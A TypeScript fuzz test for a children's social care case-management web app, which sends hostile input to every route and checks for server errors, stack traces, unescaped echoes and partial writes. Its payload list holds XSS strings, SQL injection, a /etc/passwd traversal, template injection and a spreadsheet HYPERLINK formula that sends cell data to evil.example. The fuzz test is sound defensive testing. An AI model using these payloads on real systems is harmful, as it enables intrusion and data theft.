import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { after, before, test } from 'node:test';
import fc from 'fast-check';
import type { LightMyRequestResponse } from 'fastify';
import { sql } from 'kysely';
import { DEMO_ACCOUNTS, DEMO_PASSWORD } from '../../src/demo/accounts.ts';
import type { Role } from '../../src/db/schema.ts';
import { Agent, startTestApp, type TestApp } from '../support/app.ts';
import { describeEachEngine, type TestDatabase } from '../support/databases.ts';
import { recordBatteryFigure } from '../support/figures.ts';

/**
 * The fuzz battery: every route the app registers (read from its route
 * table, so a new route cannot be left out), driven by someone who may use
 * it and by a team manager, with hostile text, wrong types, missing and
 * repeated fields, and path parameters filled with real ids from the demo
 * council. Nothing may answer 5xx, show a stack trace, echo a payload
 * unescaped, or leave a refused form half-stored.
 *
 * Bounded and repeatable: a fixed seed per route, FUZZ_RUNS cases per route
 * and person (3 by default; set more for a longer run).
 */
const RUNS = Math.max(1, Number(process.env.FUZZ_RUNS ?? 3));
const SEED = Number(process.env.FUZZ_SEED ?? 20261123);
const UNKNOWN_ID = '00000000-0000-4000-8000-000000000000';
/** Tables refusals and reading may write to: the audit log, sessions, and figures worked out on reading. */
const NOT_DATA = ['audit_events', 'sessions', 'kysely_migration', 'kysely_migration_lock', 'due_items', 'due_computed', 'worker_figures', 'scheduled_runs'];
/** Who tries each route first; the first who may use it is its user. */
const ROLE_ORDER: Role[] = ['social_worker', 'team_manager', 'practice_supervisor', 'service_manager', 'head_of_service', 'personal_adviser', 'iro', 'performance_analyst', 'system_admin'];
const MANAGER: Role = 'team_manager';

/** Payloads whose echo must always be escaped: each is unique, so a raw copy in a page is the payload's. */
const MARKUP = ['<script>fuzzA()</script>', '"><img src=x onerror=fuzzB()>', "'><svg onload=fuzzC()>", '<iframe src=javascript:fuzzD()>'];
const RAW_MARKUP = /<script>fuzzA|<img src=x onerror=fuzzB|<svg onload=fuzzC|<iframe src=javascript:fuzzD/;

/** Text PostgreSQL cannot store (NUL) or the service refuses. */
const CONTROL = ['\u0000', 'Kit\u0000Smith', '\u0007\u0008\u001b[31m', '\u007f', '\u0085\u009c'];

const HOSTILE: string[] = [
  ...MARKUP,
  "'; DROP TABLE people; --",
  "' OR '1'='1",
  '\\',
  '%00',
  '%',
  '\u202Eevil\u202C',
  '\u200F\u200Eمحمد',
  '👩🏽‍👧 🧒🏿',
  '\uD800',
  '\uFEFF',
  '𝕂𝕚𝕥',
  '=HYPERLINK("http://evil.example/?id="&A2,"Open record")',
  '+1',
  '-1',
  '@SUM(A1)',
  '0',
  '-0',
  '99999999999999999999999',
  '1e309',
  'NaN',
  'Infinity',
  'true',
  'null',
  '2026-02-30',
  '31',
  '13',
  '0000',
  '9999',
  '../../../etc/passwd',
  '{{ 7 * 7 }}',
  '${7*7}',
  '[object Object]',
  '__proto__',
  'constructor',
  '',
  '   ',
  '\t\r\n',
  'x'.repeat(100_000),
  'ß'.repeat(20_000),
];

const PLAUSIBLE_FIELDS = ['name', 'email', 'password', 'q', 'note', 'reason', 'description', 'title', 'body', 'summary', 'page', 'status', 'teamId', 'workerId', 'outcome'];

type Ids = Record<string, string>;
interface Route {
  method: string;
  url: string;
}
interface Case {
  fields: Record<string, unknown>;
  json: boolean;
  query: Record<string, string | string[]>;
}
interface Failure {
  where: string;
  problem: string;
}

describeEachEngine(
  'fuzz battery: hostile input on every route',
  (use, engine) => {
    let t: TestApp;
    const agents = new Map<Role, Agent>();
    const emails = new Map<Role, string>();
    let anonymous: Agent;
    let ids: Ids;
    let childIds: Ids;

    before(async () => {
      t = await startTestApp(use());
      for (const account of DEMO_ACCOUNTS) {
        const agent = new Agent(t.app);
        assert.equal((await agent.signIn(account.email, DEMO_PASSWORD)).statusCode, 303, account.email);
        agents.set(account.role, agent);
        emails.set(account.role, account.email);
      }
      anonymous = new Agent(t.app);
      await anonymous.get('/sign-in');
      ({ ids, childIds } = await realIds(use(), emails.get('social_worker')!, emails.get('team_manager')!));
    });
    after(async () => t.app.close());

    test(`every route survives hostile input (${RUNS} cases per route and person)`, async () => {
      const routes = t.app.routeTable.filter((r) => r.method === 'GET' || r.method === 'POST');
      assert.ok(routes.length > 100, `the route table lists the app's routes (${routes.length})`);
      const fill = (url: string) => fillParams(url, ids, childIds);
      const forms = new Map<string, { fields: Set<string>; roles: Set<Role> }>();
      const harvest = (role: Role, page: string, body: string) => {
        for (const form of body.matchAll(/<form\b([^>]*)>([\s\S]*?)<\/form>/g)) {
          // A form without an action posts to its own page.
          const action = /action="([^"]+)"/.exec(form[1]!)?.[1]?.replace(/&amp;/g, '&').split('?')[0] ?? page;
          const entry = forms.get(action) ?? { fields: new Set(), roles: new Set() };
          for (const name of form[2]!.matchAll(/\bname="([^"]+)"/g)) if (name[1] !== '_csrf') entry.fields.add(name[1]!);
          entry.roles.add(role);
          forms.set(action, entry);
        }
      };
      const usable = (status: number) => status < 400;

      // Who may use each route: the first person it does not refuse; forms are read from the pages.
      const users = new Map<string, Role[]>();
      for (const route of routes.filter((r) => r.method === 'GET')) {
        const url = fill(route.url);
        let first: Role | undefined;
        for (const role of ROLE_ORDER) {
          const response = await agents.get(role)!.get(url);
          harvest(role, url, response.body);
          if (usable(response.statusCode)) {
            first = role;
            break;
          }
        }
        users.set(`GET ${route.url}`, [...new Set([first ?? 'social_worker', MANAGER])]);
      }
      for (const route of routes.filter((r) => r.method === 'POST')) {
        const url = fill(route.url);
        const form = forms.get(url);
        const first = ROLE_ORDER.find((role) => form?.roles.has(role)) ?? (users.get(`GET ${route.url}`) ?? [])[0] ?? 'social_worker';
        users.set(`POST ${route.url}`, [...new Set([first, MANAGER])]);
      }

      const tables = await dataTables(use());
      const failures: Failure[] = [];
      let cases = 0;
      const answers: Record<string, number> = {};
      for (const route of routes) {
        const url = fill(route.url);
        const known = [...(forms.get(url)?.fields ?? [])];
        const fieldNames = known.length ? known : PLAUSIBLE_FIELDS;
        const generated = fc.sample(caseOf(fieldNames, Object.values(ids)), { seed: seedOf(route), numRuns: RUNS });
        const own = route.url === '/sign-in' || route.url === '/sign-out';
        const people: (Role | 'own session')[] = own ? ['own session'] : users.get(`${route.method} ${route.url}`)!;
        for (const person of people) {
          const agent = person === 'own session' ? await throwaway(route) : agents.get(person)!;
          for (const c of generated) {
            cases += 1;
            const where = `${person} ${route.method} ${route.url} #${generated.indexOf(c)}`;
            const counts = route.method === 'POST' ? await rowCounts(use(), tables) : undefined;
            let response: LightMyRequestResponse;
            try {
              response = route.method === 'GET' ? await agent.get(withQuery(url, { ...c.query, ...asForm(c.fields) })) : await post(t, agent, withQuery(url, c.query), c);
            } catch (error) {
              failures.push({ where, problem: `request threw ${String(error)}` });
              continue;
            }
            const group = `${String(response.statusCode).charAt(0)}xx`;
            answers[group] = (answers[group] ?? 0) + 1;
            for (const problem of judge(response)) failures.push({ where, problem });
            if (counts && response.statusCode >= 400 && response.statusCode < 500) {
              const now = await rowCounts(use(), tables);
              const changed = Object.keys(now).filter((k) => now[k] !== counts[k]);
              if (changed.length) failures.push({ where, problem: `refused with ${response.statusCode} but changed ${changed.join(', ')}` });
            }
          }
        }
      }

      const tally = Object.entries(answers)
        .sort()
        .map(([group, n]) => `${n} ${group}`)
        .join(', ');
      const summary = `fuzz: ${routes.length} routes tried, ${cases} cases, ${failures.length} failures (answers: ${tally})`;
      console.log(summary);
      recordBatteryFigure({
        check: `fuzzing every route with hostile input [${engine}]`,
        tried: `${cases} cases on ${routes.length} routes (${RUNS} per route and person)`,
        found: `${failures.length} failures (5xx, stack trace, unescaped echo, refused but stored)`,
        pass: failures.length === 0,
      });
      assert.deepEqual(
        failures.slice(0, 30).map((f) => `${f.where}: ${f.problem}`),
        [],
        summary,
      );
    });

    /** Sign-in and sign-out get a person of their own, so the others stay signed in. */
    async function throwaway(route: Route): Promise<Agent> {
      if (route.url === '/sign-in') return anonymous;
      const agent = new Agent(t.app);
      assert.equal((await agent.signIn(emails.get('performance_analyst')!, DEMO_PASSWORD)).statusCode, 303);
      return agent;
    }
  },
  { fixture: 'demo' },
);

/** What must hold of every answer. */
function judge(response: LightMyRequestResponse): string[] {
  const problems: string[] = [];
  if (response.statusCode >= 500) problems.push(`answered ${response.statusCode}`);
  if (/\bat [\w.<>]+ \(.*:\d+:\d+\)|node:internal|\/src\/[\w/-]+\.ts:\d+/.test(response.body)) problems.push('the body holds a stack trace');
  const type = String(response.headers['content-type'] ?? '');
  if (type.startsWith('text/html') && RAW_MARKUP.test(response.body)) problems.push('a payload is echoed unescaped');
  return problems;
}

function seedOf(route: Route): number {
  return SEED ^ createHash('sha256').update(`${route.method} ${route.url}`).digest().readUInt32BE(0);
}

/** One case: hostile values for known and unknown fields, some repeated, some missing, as a form or as JSON of the wrong types. */
function caseOf(fieldNames: string[], realIds: string[]): fc.Arbitrary<Case> {
  const text = fc.oneof(
    { weight: 1, arbitrary: fc.constantFrom(...CONTROL) },
    { weight: 5, arbitrary: fc.constantFrom(...HOSTILE) },
    { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
    { weight: 1, arbitrary: fc.constantFrom(...realIds) },
    { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...HOSTILE), fc.constantFrom(...HOSTILE)).map(([a, b]) => `${a}${b}`.slice(0, 200_000)) },
  );
  const formValue = fc.oneof({ weight: 4, arbitrary: text }, { weight: 1, arbitrary: fc.array(text, { minLength: 2, maxLength: 3 }) });
  const jsonValue: fc.Arbitrary<unknown> = fc.oneof(
    text,
    fc.integer(),
    fc.double(),
    fc.boolean(),
    fc.constant(null),
    fc.array(text, { maxLength: 3 }),
    fc.dictionary(fc.constantFrom('a', '__proto__', 'toString'), text, { maxKeys: 2 }),
  );
  const names = fc.constantFrom('unexpected', '_csrf_extra', '__proto__');
  const queryNames = fc.constantFrom('q', 'page', 'status', 'worker', 'kind', 'months', 'person', 'action', 'outcome', 'done', 'from-day', 'unexpected');
  return fc.boolean().chain((json) =>
    fc.record({
      json: fc.constant(json),
      // Each field of the form may be missing, hostile or repeated; now and then one the form does not have.
      fields: fc
        .tuple(
          fc.record(Object.fromEntries(fieldNames.map((name) => [name, json ? jsonValue : formValue])), { requiredKeys: [] }),
          fc.dictionary(names, json ? jsonValue : formValue, { maxKeys: 1 }),
        )
        .map(([known, extra]) => ({ ...extra, ...known })),
      query: fc.dictionary(queryNames, fc.oneof(text, fc.array(text, { minLength: 2, maxLength: 2 })), { maxKeys: 3 }),
    }),
  );
}

function asForm(fields: Record<string, unknown>): Record<string, string | string[]> {
  const form: Record<string, string | string[]> = {};
  const text = (value: unknown) => (value !== null && typeof value === 'object' ? JSON.stringify(value) : String(value));
  for (const [key, value] of Object.entries(fields)) form[key] = Array.isArray(value) ? value.map(text) : text(value);
  return form;
}

function withQuery(url: string, query: Record<string, string | string[]>): string {
  const params = new URLSearchParams();
  for (const [key, value] of Object.entries(query)) for (const v of [value].flat()) params.append(key, v);
  const text = params.toString();
  return text ? `${url}?${text}` : url;
}

/** A form post as a browser sends it, or the same fields as JSON of any type, with the CSRF token. */
async function post(t: TestApp, agent: Agent, url: string, c: Case): Promise<LightMyRequestResponse> {
  if (!c.json) {
    return agent.post(url, asForm(c.fields));
  }
  const cookie = ['steadfast_session', 'steadfast_browser']
    .map((name) => [name, agent.cookie(name)])
    .filter(([, value]) => value)
    .map(([name, value]) => `${name}=${value}`)
    .join('; ');
  return t.app.inject({
    method: 'POST',
    url,
    headers: { cookie, 'content-type': 'application/json', accept: 'application/json', 'x-csrf-token': agent.csrfToken },
    payload: JSON.stringify(c.fields),
  });
}

/** Path parameters filled with real ids of the right kind; a child-scoped one with its own child. */
function fillParams(url: string, ids: Ids, childIds: Ids): string {
  const childScoped = (url.match(/:(noteId|relationshipId|contactId|episodeId|planId|referralId)\b/) ?? [])[1];
  const childId = (childScoped && childIds[childScoped]) || ids.childId!;
  return url.replace(/:([A-Za-z]+)/g, (_, name: string) => {
    if (name === 'childId') return childId;
    if (name === 'id') {
      if (url.startsWith('/admin/teams')) return ids.teamId!;
      if (url.startsWith('/admin/users')) return ids.otherUserId!;
      if (url.startsWith('/variances')) return ids.varianceId!;
    }
    if (name === 'actionId') return url.startsWith('/variances') ? ids.varianceActionId! : ids.supervisionActionId!;
    return ids[name] ?? UNKNOWN_ID;
  });
}

/** Real ids of each kind from the demo council, chosen where the demo social worker and team manager work. */
async function realIds(database: TestDatabase, workerEmail: string, managerEmail: string): Promise<{ ids: Ids; childIds: Ids }> {
  const db = database.db;
  const worker = await db.selectFrom('users').select(['id', 'team_id']).where('email', '=', workerEmail).executeTakeFirstOrThrow();
  const manager = await db.selectFrom('users').select(['id', 'team_id']).where('email', '=', managerEmail).executeTakeFirstOrThrow();
  const teamId = worker.team_id ?? manager.team_id!;
  const team = await db.selectFrom('teams').select(['id', 'service_id']).where('id', '=', teamId).executeTakeFirstOrThrow();
  const mine = (await db.selectFrom('allocations').select('child_id').where('worker_id', '=', worker.id).where('role', '=', 'lead').where('end_date', 'is', null).execute()).map((r) => r.child_id);
  assert.ok(mine.length, 'the demo social worker holds children');
  const first = async (query: Promise<{ id: string } | undefined>) => (await query)?.id ?? UNKNOWN_ID;
  const ofMine = async (table: 'case_notes' | 'professional_contacts' | 'care_episodes' | 'cp_plans' | 'referrals'): Promise<[string, string] | undefined> => {
    const row = await db.selectFrom(table).select(['id', 'child_id']).where('child_id', 'in', mine).orderBy('id').executeTakeFirst();
    return row ? [row.id, row.child_id] : undefined;
  };
  const childIds: Ids = {};
  const ids: Ids = {
    childId: mine[0]!,
    teamId,
    serviceId: team.service_id,
    userId: worker.id,
    otherUserId: await first(db.selectFrom('users').select('id').where('role', '=', 'social_worker').where('id', '!=', worker.id).orderBy('id').executeTakeFirst()),
    grantId: await first(db.selectFrom('access_grants').select('id').orderBy('id').executeTakeFirst()),
    modelId: await first(db.selectFrom('weighting_models').select('id').orderBy('id').executeTakeFirst()),
    courseId: await first(db.selectFrom('training_courses').select('id').orderBy('id').executeTakeFirst()),
    toolId: await first(db.selectFrom('direct_work_tools').select('id').orderBy('id').executeTakeFirst()),
    reductionId: await first(db.selectFrom('workload_reductions').select('id').where('user_id', '=', worker.id).executeTakeFirst()),
    supervisionId: await first(db.selectFrom('supervisions').select('id').where('worker_id', '=', worker.id).orderBy('id').executeTakeFirst()),
    supervisionActionId: await first(
      db.selectFrom('supervision_actions').innerJoin('supervisions', 'supervisions.id', 'supervision_actions.supervision_id').select('supervision_actions.id').where('supervisions.worker_id', '=', worker.id).orderBy('supervision_actions.id').executeTakeFirst(),
    ),
    varianceId: await first(db.selectFrom('variances').select('id').where('team_id', '=', teamId).orderBy('id').executeTakeFirst()),
  };
  ids.varianceActionId = await first(db.selectFrom('variance_actions').select('id').where('variance_id', '=', ids.varianceId!).executeTakeFirst());
  for (const [param, table] of [
    ['noteId', 'case_notes'],
    ['contactId', 'professional_contacts'],
    ['episodeId', 'care_episodes'],
    ['planId', 'cp_plans'],
    ['referralId', 'referrals'],
  ] as const) {
    const found = await ofMine(table);
    ids[param] = found?.[0] ?? UNKNOWN_ID;
    if (found) childIds[param] = found[1];
  }
  const relationship = await db.selectFrom('relationships').select(['id', 'person_id']).where('person_id', 'in', mine).orderBy('id').executeTakeFirst();
  ids.relationshipId = relationship?.id ?? UNKNOWN_ID;
  if (relationship) childIds.relationshipId = relationship.person_id;
  return { ids, childIds };
}

async function dataTables(database: TestDatabase): Promise<string[]> {
  const result = await sql<{ table_name: string }>`
    SELECT table_name FROM information_schema.tables
    WHERE table_schema = 'public' AND table_type = 'BASE TABLE'
    ORDER BY table_name`.execute(database.db);
  return result.rows.map((r) => r.table_name).filter((name) => !NOT_DATA.includes(name));
}

/** Rows in each data table, in one statement. */
async function rowCounts(database: TestDatabase, tables: string[]): Promise<Record<string, number>> {
  const selects = sql.join(
    tables.map((name) => sql`(SELECT count(*)::int FROM ${sql.table(name)}) AS ${sql.ref(name)}`),
    sql`, `,
  );
  const result = await sql<Record<string, number>>`SELECT ${selects}`.execute(database.db);
  return result.rows[0]!;
}
